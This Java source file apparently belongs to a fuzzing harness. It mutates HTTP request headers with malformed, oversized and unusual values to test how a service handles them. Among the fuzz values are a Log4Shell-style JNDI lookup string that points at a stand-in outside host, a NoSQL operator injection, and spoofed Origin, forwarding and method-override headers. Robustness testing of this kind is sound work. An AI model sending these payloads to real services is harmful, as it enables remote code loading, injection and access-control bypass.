package io.conversation.attack;

import java.util.List;

/** Header fields that mean something to somebody between the socket and the resource. */
final class HeaderTricks {

    private static final List<String> ACCEPTS = List.of("*/*", "application/json", "application/x-ndjson", "text/event-stream",
            "application/problem+json", "text/html", "application/xml;q=0.9, */*;q=0", "application/*;q=0.1", "garbage",
            "a/b/c", ";",
            ",", "*/json", "application/json;q=abc", "application/json;charset=utf-16", "\u00e9/x",
            "application/json, ".repeat(300),
            "");
    private static final List<String> TYPES = List.of("application/json;charset=utf-8", "application/json; charset=utf-16",
            "APPLICATION/JSON", "application/json;charset=nonsense", "application/x-ndjson", "application/problem+json",
            "text/plain",
            "text/json", "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=x",
            "garbage",
            "a/b/c", "", ";", "application/json, text/html", "*/*", "application/*", "application/json;" + "a=b;".repeat(500));
    private static final List<String> CODINGS = List.of("gzip", "gzip;q=0", "*", "*;q=0", "identity;q=0", "br, zstd",
            "gzip;q=x",
            "gzip;q=-1", ", ,", "gzip, ".repeat(500), "\u00ff", "");
    private static final List<String> POSITIONS = List.of("6955b904a1b2c3d4e5f60718-20-12-2", "6955b904a1b2c3d4e5f60718", "0",
            "-",
            "6955b904a1b2c3d4e5f60718-99999999999-1-1", "{\"$gt\":\"\"}", "", "\u00e9", "x".repeat(5000),
            "ffffffffffffffffffffffff-20-0-0-9999999999");
    private static final List<String> PREFERENCES = List.of("handling=strict", "handling=\"strict\"", "handling=lenient",
            "handling=strict, handling=lenient", "HANDLING=STRICT", "respond-async", "handling", "handling=", "=", ",,,", ";;",
            "handling=\"", "wait=5; handling=strict", "\u00e9", "x,".repeat(3000));
    private static final List<Draft.Header> OTHERS = List.of(new Draft.Header("If-None-Match", "*"),
            new Draft.Header("If-Match", "\"x\""), new Draft.Header("If-Modified-Since", "Thu, 01 Jan 2026 00:00:00 GMT"),
            new Draft.Header("If-Unmodified-Since", "garbage"), new Draft.Header("Range", "bytes=0-1,5-,-9"),
            new Draft.Header("X-HTTP-Method-Override", "DELETE"), new Draft.Header("Origin", "https://elsewhere.example"),
            new Draft.Header("Origin", "null"), new Draft.Header("Access-Control-Request-Method", "DELETE"),
            new Draft.Header("Cookie", "a=" + "b".repeat(3000)), new Draft.Header("Cookie", "=;;="),
            new Draft.Header("Authorization", "Bearer " + "x".repeat(3000)), new Draft.Header("Authorization", "Basic \u00e9"),
            new Draft.Header("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
            new Draft.Header("traceparent", "garbage"), new Draft.Header("X-Forwarded-For", "127.0.0.1, ::1"),
            new Draft.Header("X-Forwarded-Host", "elsewhere.example"), new Draft.Header("X-Forwarded-Prefix", "/x"),
            new Draft.Header("Forwarded", "for=\"[::1]\";host=elsewhere.example;proto=https"),
            new Draft.Header("Accept-Charset", "utf-16"), new Draft.Header("Accept-Language", "-;q=x"),
            new Draft.Header("Content-Language", "x"), new Draft.Header("Content-Range", "bytes 0-1/2"),
            new Draft.Header("Content-MD5", "x"), new Draft.Header("Trailer", "Content-Length"),
            new Draft.Header("TE", "trailers"),
            new Draft.Header("Via", "1.0 x"), new Draft.Header("Max-Forwards", "0"), new Draft.Header("Pragma", "no-cache"),
            new Draft.Header("Keep-Alive", "timeout=0"), new Draft.Header("Connection", "close"),
            new Draft.Header("Connection", "keep-alive, Content-Type"), new Draft.Header("X-Empty", ""),
            new Draft.Header("X-Bytes", "\u00e9\u00ff\u0080"),
            new Draft.Header("X-Template", "${jndi:ldap://elsewhere.example/a}"));

    static final List<Trick> ALL = List.of(
            new Trick("Accept", (draft, random) -> draft.replaceHeader("Accept", Trick.one(random, ACCEPTS))),
            new Trick("Accept twice", (draft, random) -> {
                draft.header("Accept", Trick.one(random, ACCEPTS));
                draft.header("Accept", Trick.one(random, ACCEPTS));
            }),
            new Trick("Content-Type", (draft, random) -> draft.replaceHeader("Content-Type", Trick.one(random, TYPES))),
            new Trick("Content-Type twice", (draft, random) -> draft.header("Content-Type", Trick.one(random, TYPES))),
            new Trick("no Content-Type",
                    (draft, random) -> draft.headers.removeIf(header -> header.name().equals("Content-Type"))),
            new Trick("Accept-Encoding", (draft, random) -> draft.header("Accept-Encoding", Trick.one(random, CODINGS))),
            new Trick("Last-Event-ID", (draft, random) -> draft.header("Last-Event-ID", Trick.one(random, POSITIONS))),
            new Trick("Prefer", (draft, random) -> draft.header("Prefer", Trick.one(random, PREFERENCES))),
            new Trick("another header", (draft, random) -> draft.headers.add(Trick.one(random, OTHERS))),
            new Trick("two more headers", (draft, random) -> {
                draft.headers.add(Trick.one(random, OTHERS));
                draft.headers.add(Trick.one(random, OTHERS));
            }),
            new Trick("long header", (draft, random) -> draft.header("X-Long", "x".repeat(7000))),
            new Trick("many headers", (draft, random) -> {
                for (int i = 0; i < 300; i++) {
                    draft.header("X-" + i, "x");
                }
            }));

    private HeaderTricks() {
    }
}
